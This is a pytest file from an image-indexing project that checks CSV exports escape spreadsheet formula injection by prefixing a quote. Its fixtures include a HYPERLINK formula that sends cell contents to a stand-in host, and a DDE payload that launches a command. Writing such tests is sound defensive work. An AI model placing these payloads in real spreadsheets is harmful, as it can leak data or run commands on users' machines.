"""Issue 31, item 7: every CSV the project writes makes formula cells inert (OWASP: a leading ')."""

from __future__ import annotations

import csv
import io

from eval.report import _write_csv
from indexer.core.csv_safe import escape_formula
from indexer.core.records import Hit, ImageRecord
from indexer.ingest.plan import write_rejected
from indexer.ingest.prepare import Rejected
from retriever.cli import format_rows, hits_to_rows

EVIL = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1"]


def test_escape_formula_prefixes_a_quote_to_formula_text_only():
    assert [escape_formula(v) for v in [*EVIL, "\r=1"]] == ["'" + v for v in [*EVIL, "\r=1"]]
    assert [escape_formula(v) for v in ("plate/a.tif", "", -0.5, 3, None)] == [
        "plate/a.tif",
        "",
        -0.5,
        3,
        None,
    ]


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_query_csv_escapes_paths_and_tags():
    records = [ImageRecord(id=i + 1, path=v, tags={"note": v}) for i, v in enumerate(EVIL)]
    hits = [[Hit(i + 1, -0.25, r) for i, r in enumerate(records)]]
    rows = _rows(format_rows(hits_to_rows(["@query.tif"], hits), "csv"))
    assert [r["path"] for r in rows] == ["'" + v for v in EVIL]  # b690aef: written verbatim
    assert rows[0]["query"] == "'@query.tif" and rows[0]["score"] == "-0.25"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k, cell in r.items()
                   if k != "score")  # fmt: skip


def test_rejected_csv_and_eval_rows_escape_formulas(tmp_path):
    write_rejected(tmp_path, [Rejected(v, "decode", "=cmd|' /C calc'!A0") for v in EVIL])
    with open(tmp_path / "rejected.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["path"] for r in rows] == ["'" + v for v in EVIL]
    assert rows[0]["reason"].startswith("'=")
    _write_csv(tmp_path / "rows.csv", [{"query": v, "self_at_1": -1.0} for v in EVIL])
    rows = _rows((tmp_path / "rows.csv").read_bytes().decode())
    assert [r["query"] for r in rows] == ["'" + v for v in EVIL] and rows[0]["self_at_1"] == "-1.0"


def test_an_export_header_named_for_a_tag_key_is_escaped(tmp_path, tiny_model_dir):
    """A --metadata column becomes a tag key, and the export's header cell of that tag: a key ``+SUM(1)``
    (keys may not hold ``=``, but may begin with ``+ - @``) was written verbatim in the header (c59f047);
    now it is ``'+SUM(1)``, as its cells are."""
    import csv
    import shutil

    from click.testing import CliRunner

    from indexer.cli import main as index_main
    from tests.conftest import REPO

    data = tmp_path / "data"
    data.mkdir()
    src = sorted(
        p for p in (REPO / "examples" / "own-data" / "images").glob("*.tif") if "stack" not in p.name
    )
    for p in src[:2]:
        shutil.copy(p, data / p.name)
    table = tmp_path / "plate.csv"
    with open(table, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["path", "+SUM(1)"], *([f"data/{p.name}", "@x"] for p in src[:2])])
    r = CliRunner().invoke(index_main, ["build", str(data), "--index", str(tmp_path / "idx"), "--model",
                                        str(tiny_model_dir), "--device", "cpu", "--no-progress", "--metadata",
                                        str(table)])  # fmt: skip
    assert r.exit_code == 0, r.output
    out = tmp_path / "plate.csv.out"
    r = CliRunner().invoke(index_main, ["export", "--index", str(tmp_path / "idx"), "--format", "csv",
                                        "--out", str(out)])  # fmt: skip
    assert r.exit_code == 0, r.output
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert "'+SUM(1)" in rows[0] and "+SUM(1)" not in rows[0]
    col = rows[0].index("'+SUM(1)")
    assert [row[col] for row in rows[1:]] == ["'@x", "'@x"]
